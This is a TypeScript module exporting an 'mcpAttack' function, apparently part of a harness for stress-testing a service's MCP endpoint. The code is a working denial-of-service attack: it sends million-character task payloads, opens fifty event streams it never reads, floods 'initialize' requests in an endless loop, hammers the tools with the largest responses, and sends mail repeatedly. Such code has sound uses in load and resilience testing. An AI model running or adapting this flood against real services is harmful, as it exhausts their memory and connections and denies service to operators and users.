import { type Attack, addArtifact, call, forever, headOf, open, pause, send, sendMail, type Target } from './calls.ts'

const accept = { accept: 'application/json, text/event-stream' }
const initialize = {
  protocolVersion: '2025-11-25',
  capabilities: {},
  clientInfo: { name: 'mallory', version: '1' },
}
const calls = ['list_tasks', 'get_task', 'read_inbox', 'who'] as const
const initializesATick = 40
const tickMs = 20

/** Begins sessions of MCP without end, reads none of their streams, and calls the tools and resources with the largest answers. */
export const mcpAttack: Attack = async (target, ready) => {
  const task = await send(target, 'x'.repeat(1_000_000))
  await addArtifact(target, task, 'x'.repeat(1_000_000))
  for (let count = 0; count < 50; count++) {
    const fields = ['Accept: text/event-stream', `Mcp-Session-Id: ${await begin(target)}`]
    open(target.url, headOf(target, 'GET /mcp', ...fields)).pause()
  }
  const session = await begin(target)
  ready()
  await Promise.all([
    forever(1, async () => {
      for (let count = 0; count < initializesATick; count++) void ask(target, 'initialize', initialize)
      await pause(tickMs)
    }),
    forever(8, (index) => {
      const name = calls[index % calls.length]!
      if (index % 3 === 0) return ask(target, 'resources/read', { uri: `rouse://task/${task}` }, session)
      return ask(target, 'tools/call', { name, arguments: name === 'get_task' ? { taskId: task } : {} }, session)
    }),
    // Its unread streams tell of this.
    forever(1, () => Promise.all([sendMail(target), pause(100)])),
  ])
}

/** Begins a session that watches its inbox. Returns its id. */
async function begin(target: Target): Promise<string> {
  const headers = { authorization: `Bearer ${target.key}`, 'content-type': 'application/json', ...accept }
  const body = JSON.stringify({ jsonrpc: '2.0', id: 1, method: 'initialize', params: initialize })
  const answer = await fetch(`${target.url}/mcp`, { method: 'POST', headers, body })
  await answer.text()
  const session = answer.headers.get('mcp-session-id') ?? ''
  await ask(target, 'resources/subscribe', { uri: `rouse://inbox/@${target.handle}` }, session)
  return session
}

function ask(target: Target, method: string, params: object, session?: string): Promise<string> {
  const headers = { ...accept, ...(session !== undefined && { 'mcp-session-id': session }) }
  return call(target, 'POST', '/mcp', { jsonrpc: '2.0', id: 2, method, params }, headers)
}
